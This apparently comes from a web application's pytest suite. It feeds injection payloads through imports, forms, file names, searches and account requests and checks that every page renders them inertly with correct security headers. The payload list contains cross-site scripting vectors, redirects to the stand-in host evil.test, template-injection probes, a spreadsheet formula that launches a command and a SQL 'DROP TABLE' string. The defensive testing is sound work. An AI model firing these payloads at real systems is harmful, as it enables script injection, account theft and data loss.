"""Script payloads in every text and file name, looked for on every page that shows them; headers on every answer; odd requests."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import text

from notifications.deliver import deliver
from notifications.settings import channel_for
from register.household import units_of
from storage.engine import writing
from tests.post.sending import folder
from tests.web.conftest import PASSWORD, Answer, Door, field_in, password_hash
from tests.web.policy import guarded
from tests.web.stage import NOBODY, PDF, Stage, routes_of
from web.pages.accounts import MOST_WAITING

PAYLOADS = (
    "<script>PWN()</script>", '"><img src=x onerror=PWN()>', "' onmouseover='PWN()", '" autofocus onfocus=PWN() x="', "<svg/onload=PWN()>",
    "</textarea><script>PWN()</script>", "</title><script>PWN()</script>", "</select></option><script>PWN()</script>", "<iframe srcdoc='<script>PWN()</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=PWN()>", "<!--><script>PWN()//--></script>", "]]><script>PWN()</script>",
    "<a href=javascript:PWN()>点</a>", "javascript:PWN()", "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><button>", "<link rel=stylesheet href=//evil.test/x.css>", "<object data=//evil.test>", "<x hx-get=//evil.test hx-trigger=load>",
    "{{ 1337 * 1337 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "${1337*1337}", "#{1337*1337}", "<%= 1337*1337 %>",
    "&lt;script&gt;PWN()&lt;/script&gt;", "\\u003cscript\\u003ePWN()\\u003c/script\\u003e", "%3Cscript%3EPWN()%3C/script%3E", "＜script＞PWN()＜/script＞",
    "<ScRiPt >PWN()</sCrIpT>", "<img src=`x`onerror=PWN()>", "<style>@import'//evil.test'</style>", "\u202e<script>PWN()</script>", "=cmd|' /C calc'!A0", "'; DROP TABLE cases; --", "%s%n{0}",
)  # fmt: skip
UNIT = "<img src=x onerror=PWN()>'\"党委"
ROUND = '"><svg/onload=PWN()>轮'
# Where an address may lead; everything else in an attribute came from outside.
LEADS = re.compile(r"(/(?!/)|#|\?|mailto:|data:image/|http://127\.0\.0\.1)")
# A file in place: its answer is closed by itself (test_in_place.py).
OWN_FRAME = re.compile(r"/(materials/\d+|drafts/\d+/files/\d+|sent/[\w.-]+)/view(#navpanes=0&view=FitH)?", re.ASCII)
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "style", "math", "mglyph", "template", "x"}
CALCULATED = "1787569"


class Reader(HTMLParser):
    """Reads a page as a browser would split it, and notes whatever could run or lead away."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.text = ""
        self.inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = dict(attrs)
        ours = tag == "iframe" and OWN_FRAME.fullmatch(said.get("src") or "")
        if (tag in FORBIDDEN_TAGS and not ours) or "pwn" in tag:
            self.faults.append(f"<{tag}>")
        if tag == "script":
            self.inside = "script"
            if not (said.get("src") or "").startswith("/static/"):
                self.faults.append(f"script {said}")
        if tag == "meta" and "http-equiv" in said:
            self.faults.append(f"meta {said}")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if (
            name.startswith(("on", "hx-"))
            or name in ("style", "srcdoc")
            or "pwn" in name
            or not re.fullmatch(r"[a-zA-Z0-9-]+", name)
        ):
            self.faults.append(f"<{tag} {name}={value!r}>")
        if name in ("href", "src", "action", "formaction", "data-keep") and not LEADS.match(value):
            self.faults.append(f"<{tag} {name}={value!r}> leads away")

    def handle_endtag(self, tag: str) -> None:
        if tag == self.inside:
            self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside == "script" and data.strip():
            self.faults.append(f"script says {data!r}")
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data!r}")


def faults_of(page: str) -> list[str]:
    """Return what in a page could run or lead away."""
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader.faults + (["calculated"] if CALCULATED in page else [])


@dataclass
class Looking:
    """A look at page after page: what was seen of the payloads, and what was wrong."""

    door: Door
    wrong: list[Any] = field(default_factory=list)
    seen: dict[str, str] = field(default_factory=dict)

    def at(self, name: str, answer: Answer, *statuses: int) -> Answer:
        """Judge one answer."""
        assert answer.status_code in (statuses or (200,)), (name, answer.status_code, answer.text[:3000])
        if faults := faults_of(answer.text) + guarded(answer):
            self.wrong.append((name, faults))
        self.seen[name] = self.seen.get(name, "") + answer.text
        return answer

    def shows(self, name: str, *words: str) -> None:
        """Assert that a page really showed the words: what is not shown could not have been dangerous."""
        reader = Reader()
        reader.feed(self.seen[name])
        hidden = re.findall(r'value="([^"]*)"', self.seen[name])
        everything = reader.text + "".join(hidden)
        assert not [
            word
            for word in words
            if word not in everything and word.replace("\u202e", "") not in everything.replace("\u202e", "")
        ], name


def ledger() -> bytes:
    """A ledger in which every text of every problem is a payload."""
    columns = [
        "编号",
        "单位",
        "方面",
        "问题",
        "具体表现",
        "定性依据",
        "涉及金额",
        "整改措施",
        "责任领导",
        "责任部门",
        "责任人",
        "整改进展",
        "备注",
    ]
    sheet = io.StringIO()
    writer = csv.writer(sheet)
    writer.writerow(columns)
    for number, payload in enumerate(PAYLOADS, start=1):
        writer.writerow([number, UNIT, *(payload for _ in columns[2:])])
    return sheet.getvalue().encode("utf-8")


def hire(door: Door) -> None:
    """Give the hostile unit a secretary and a handler whose names are payloads too."""
    with writing(door.world.engine) as work:
        units_of(work, [UNIT], door.world.actor("office"), door.world.now)
        work.commit()
    for login, role in (("bad.secretary", "secretary"), ("bad.handler", "handler")):
        door.world.hire(login, f"<b onclick=PWN()>{role}</b>", role, UNIT)
    with writing(door.world.engine) as work:
        work.session.execute(
            text("UPDATE accounts SET password_hash = :hash WHERE password_hash IS NULL"), {"hash": password_hash()}
        )
        work.commit()


def per_case(cases: list[int], **said: str) -> dict[str, Any]:
    """Return the fields of an act for all cases: `{p}` in a value is the case's payload."""
    found: dict[str, Any] = {"case": [str(case) for case in cases]}
    for case, payload in zip(cases, PAYLOADS, strict=False):
        found |= {f"c{case}.{name.replace('__', '.')}": value.replace("{p}", payload) for name, value in said.items()}
    return found


def act(look: Looking, login: str, action: str, data: dict[str, Any], files: Any = None) -> Answer:
    """Walk an act through its pages: form, check, done; look at each."""
    visitor = look.door.as_(login)
    look.at(f"{action} form", visitor.get(f"/acts/{action}", params={"case": data["case"]}))
    page = look.at(f"{action} check", visitor.submit(f"/acts/{action}", {**data, "step": "check"}, files=files))
    signed = {**data, "shown": field_in(page.text, "shown"), "step": "do", "password": PASSWORD}
    return look.at(f"{action} done", visitor.submit(f"/acts/{action}", signed, files=files))


def named(kind: str, payload: str) -> tuple[str, tuple[str, bytes]]:
    """A file of its own for each need, whose name is a payload; a browser would percent-encode the quotes in it."""
    return kind, (payload.replace('"', "”").replace("/", "／") + ".pdf", PDF + f"%{kind}\n".encode())


@pytest.mark.long("postgres")
def test_no_payload_in_any_text_or_name_becomes_markup_on_any_page(door: Door) -> None:
    """A ledger of payloads is imported, claimed, planned, rectified, accepted; every page that shows any of it is read."""
    look, office = Looking(door), door.as_("office")
    wish = {"round": ROUND, "unit": "", "feedback": "2026-03-02"}
    files = {"m.problem_list": ("<img src=x onerror=PWN()>.csv", ledger())}
    checked = office.submit("/import", {**wish, "step": "look"}, files=files)
    look.at("import check", checked)
    look.shows("import check", *PAYLOADS, UNIT, ROUND)
    look.at(
        "import faults",
        office.submit(
            "/import",
            {**wish, "round": "", "unit": PAYLOADS[1] * 4, "feedback": PAYLOADS[0], "step": "look"},
            files=files,
        ),
        422,
    )
    look.at("import unasked", office.submit("/import", {**wish, "step": "do"}, files=files), 422)
    tick = {"new_units": field_in(checked.text, "new_units")}
    answer = office.submit("/import", {**wish, **tick, "step": "do"}, files=files)
    look.at("import done", office.get(answer.headers["location"]))
    hire(door)
    cases = [row[0] for row in door.world.rows("SELECT id FROM cases ORDER BY id")]
    assert len(cases) == len(PAYLOADS)
    _life(look, cases)
    _pages(look, cases)
    assert look.wrong == []


def _life(look: Looking, cases: list[int]) -> None:
    door = look.door
    claim = per_case(cases, responsible="{p}", department="{p}", person="{p}")
    drafted = door.as_("bad.handler").submit("/acts/claim", {**claim, "step": "draft"})
    look.at("draft", door.as_("bad.handler").get(drafted.headers["location"]))
    look.at("draft to confirm", door.as_("bad.secretary").get(drafted.headers["location"]))
    look.shows("draft", *PAYLOADS)
    look.at("kept", door.as_("bad.secretary").submit("/acts/claim/keep", claim))
    act(look, "bad.secretary", "claim", claim)
    look.shows("claim form", *PAYLOADS)
    look.shows("claim check", *PAYLOADS)
    plan = per_case(
        cases,
        measures__1__text="{p}",
        measures__1__person="{p}",
        measures__1__department="{p}",
        measures__1__on="2026-05-01",
        measures__1__check="{p}",
        measures__1__why="{p}",
    )
    look.at("plan faults", door.as_("bad.secretary").submit("/acts/submit_plan", {**plan, "step": "check"}), 422)
    look.shows("plan faults", *PAYLOADS)
    act(
        look,
        "bad.secretary",
        "submit_plan",
        plan,
        dict([named("m.plan", PAYLOADS[1]), named("m.plan_commitment", PAYLOADS[0])]),
    )
    look.shows("submit_plan check", *PAYLOADS)
    act(look, "discipline", "opine", {"case": plan["case"], "s.opinion": "agree", "s.text": "".join(PAYLOADS)})
    door.world.agree(*cases)
    approve = per_case(cases, agreed_on="2026-06-01")
    act(look, "office", "approve_plan", approve, dict([named("m.opinions", PAYLOADS[2])]))
    act(
        look,
        "bad.handler",
        "progress",
        {**per_case(cases, measure_no="1"), "s.text": "".join(PAYLOADS), "s.figures": PAYLOADS[0]},
    )
    files = [named("m.evidence", payload[:60]) for payload in PAYLOADS]
    look.at(
        "attached", door.as_("bad.handler").submit(f"/cases/{cases[0]}/materials", {"measure": "1"}, files=files), 303
    )
    refused = [("m.evidence", (f"{PAYLOADS[1].replace(chr(34), '')}.exe", b"MZ\0\0"))]
    look.at("refused", door.as_("bad.handler").submit(f"/cases/{cases[0]}/materials", {}, files=refused), 422)


def _pages(look: Looking, cases: list[int]) -> None:
    door = look.door
    post = folder(door.world.home / "mail")
    deliver(door.world.engine, post, door.world.now, channel_for(post))
    for login in ("bad.secretary", "bad.handler", "office", "leader", "discipline", "head", "leading_group"):
        look.at(f"home {login}", door.as_(login).get("/"))
        look.at("list", door.as_(login).get("/cases"))
    for case in cases:
        look.at("case", door.as_("office").get(f"/cases/{case}"))
    for case in cases[:3]:
        look.at("case", door.as_("bad.secretary").get(f"/cases/{case}"))
    look.shows("case", *PAYLOADS, UNIT, ROUND)
    look.shows("list", *(payload for payload in PAYLOADS if len(payload) < 40))
    for path in ("/log", "/log/0", f"/log/{Stage(door).last_index(cases[0])}", "/log/checkpoints"):
        look.at("log", door.as_("auditor").get(path))
    look.at("proof", door.as_("bad.secretary").get(f"/cases/{cases[0]}/proof/{Stage(door).last_index(cases[0])}"))
    look.at("mails", door.as_("office").get("/mails"))
    for (number,) in door.world.rows("SELECT id FROM deliveries WHERE state = 'sent' ORDER BY id LIMIT 5"):
        look.at("mail", door.as_("office").get(f"/mails/{number}"))
    look.at("me", door.as_("bad.secretary").get("/me"))
    for (number,) in door.world.rows("SELECT id FROM materials WHERE version = 0"):
        answer = door.as_("office").get(f"/materials/{number}")
        assert (answer.status_code, answer.headers["content-type"]) == (200, "application/octet-stream")
        assert answer.headers["content-disposition"].startswith("attachment;")
        assert not guarded(answer)


@pytest.mark.long("postgres")
def test_what_is_searched_and_mistyped_comes_back_as_text(town_door: Door) -> None:
    look, stranger = Looking(town_door), town_door.as_(NOBODY)
    for payload in PAYLOADS:
        said = quote(payload)
        for login, path in ECHOES:
            look.at(f"{path} {payload}", town_door.as_(login).get(path.replace("{}", said)), 200, 422)
        for login, path in MISSING:
            look.at(f"{path} {payload}", town_door.as_(login).get(path.replace("{}", said)), 404)
        # A payload with a slash is an address that no route has; any other leads to the sign-in with the way back.
        look.at(f"turned away {payload}", stranger.get(f"/cases/{said}"), 303, 404)
    # Each costs the hashing that an unknown login costs.
    for payload in PAYLOADS[:8]:
        look.at(f"sign in {payload}", town_door.try_sign_in(stranger, payload, payload, next=payload), 422)
    look.at("security", town_door.as_("secauditor").get("/security"))
    # What cannot be a login may be a password in the wrong field: the log counts the attempt and keeps no word of it.
    assert town_door.world.rows("SELECT DISTINCT login FROM security_log WHERE what = 'sign_in_failed'") == [("",)]
    assert look.wrong == []


ECHOES = (
    ("office", "/done?q={}&before={}"), ("office", "/messages?before={}"),
    ("office", "/cases?round={}&unit={}&state={}&lamp={}&kind={}&from={}&to={}&sort={}&after={}&before={}&at={}"),
    ("office", "/cases?q={}"), ("office", "/cases/columns?q={}"), ("office", "/cases/views?q={}&topic={}"), ("office", "/cases?group={}&responsible={}&person={}"), ("office", "/cases/views?sort={}"),
    ("office", "/recurrences?round={}&page={}"), ("office", "/look-backs?unit={}&whose={}&looked={}&after={}.{}"), ("auditor", "/log?person={}&unit={}&action={}&via={}&from={}&to={}&number={}&paper={}"), ("auditor", "/log?{}={}"), ("office", "/mails?state={}"),
    ("secauditor", "/security?what={}&before={}"), (NOBODY, "/signin?next={}"), (NOBODY, "/signin?next=/{}"),
)  # fmt: skip
MISSING = (
    ("office", "/cases/{}"),
    ("secretary", "/acts/{}?case=1"),
    ("office", "/{}"),
    (NOBODY, "/static/{}"),
    ("office", "/import/done?told={}"),
)


@pytest.mark.long("postgres")
def test_what_is_asked_for_an_account_comes_back_as_text(town_door: Door) -> None:
    look, sysadmin, secadmin = Looking(town_door), town_door.as_("sysadmin"), town_door.as_("secadmin")
    fields = ("kind", "login", "name", "role", "unit", "email", "reason")
    short = [one for one in PAYLOADS if len(one) <= 60 and one.isprintable()]
    for number, payload in enumerate(short):
        look.at("faults", sysadmin.submit("/accounts", dict.fromkeys(fields, payload)), 422)
        look.at(
            "asked",
            sysadmin.submit("/accounts", {"login": f"p{number}", "name": payload, "role": "team", "reason": payload}),
            303,
        )
    waiting = town_door.world.rows("SELECT id FROM requests WHERE state = 'asked' ORDER BY id")
    for count, (number,) in enumerate(waiting):
        if not count % MOST_WAITING:
            look.at("waiting", secadmin.get("/accounts"))
        look.at(
            "decided",
            secadmin.approve(number) if count < 4 else secadmin.submit(f"/accounts/{number}", {"step": "refuse"}),
        )
    look.at("decided", town_door.as_("secauditor").get("/accounts"))
    look.shows("waiting", *short)
    look.shows("decided", *short)
    assert look.wrong == []


# Headers on every answer.


def test_every_answer_of_every_route_bears_the_policy(town_door: Door) -> None:
    wrong = []
    for login in (NOBODY, "office", "sysadmin"):
        for method, path in routes_of(town_door.app.routes):
            named = {
                "kind_name": "unit",
                "act_name": "change",
                "action": "claim",
                "path": "zhenggai.css",
                "token": "x",
                "year": 2026,
                "name": "life",
                "digest": "0" * 64,
                "field": "x",
                "form": "pdf",
            }
            place = path.format(case_id=1, number=1, index=0, place=0, row=1, **named)
            if path == "/signout":
                continue
            for how in {method, "PUT", "GET"}:
                answer = town_door.as_(login).request(how, place)
                wrong += [(login, how, place, answer.status_code, fault) for fault in guarded(answer)]
                private = not place.startswith("/static/")
                if ("no-store" in answer.headers["cache-control"]) != private:
                    wrong.append((login, how, place, answer.status_code, answer.headers["cache-control"]))
    assert wrong == []


def test_a_page_that_broke_says_nothing_of_how_and_bears_the_policy(door: Door) -> None:
    def boom() -> None:
        raise ValueError("SELECT secret FROM /etc/passwd")

    door.app.add_api_route("/boom", boom)
    answer = door.as_("office").get("/boom")
    assert (answer.status_code, guarded(answer)) == (500, [])
    assert "no-store" in answer.headers["cache-control"]
    assert not re.search(r"Traceback|SELECT|secret|ValueError|\.py", answer.text)
    assert "没有保存" in answer.text


def test_the_checker_finds_what_it_is_there_to_find() -> None:
    dangerous = [
        payload
        for payload in PAYLOADS
        if re.search(r"<\w", payload) and not payload.startswith(("<a ", "<form", "<link", "<!--", "<%"))
    ]
    assert [payload for payload in dangerous if not faults_of(f"<p>{payload}</p>") and "onclick" in payload] == []
    assert all(faults_of(f"<p>{one}</p>") for one in PAYLOADS[:1] + PAYLOADS[4:7] + PAYLOADS[12:13] + PAYLOADS[14:20])
    assert faults_of(f'<input value="{PAYLOADS[1]}">')
    assert faults_of(f"<input value='{PAYLOADS[2]}'>")
    assert faults_of(f"<p>{CALCULATED}</p>")
    assert not faults_of('<p>好</p><script src="/static/zhenggai.js"></script><a href="/cases/1">看</a>')
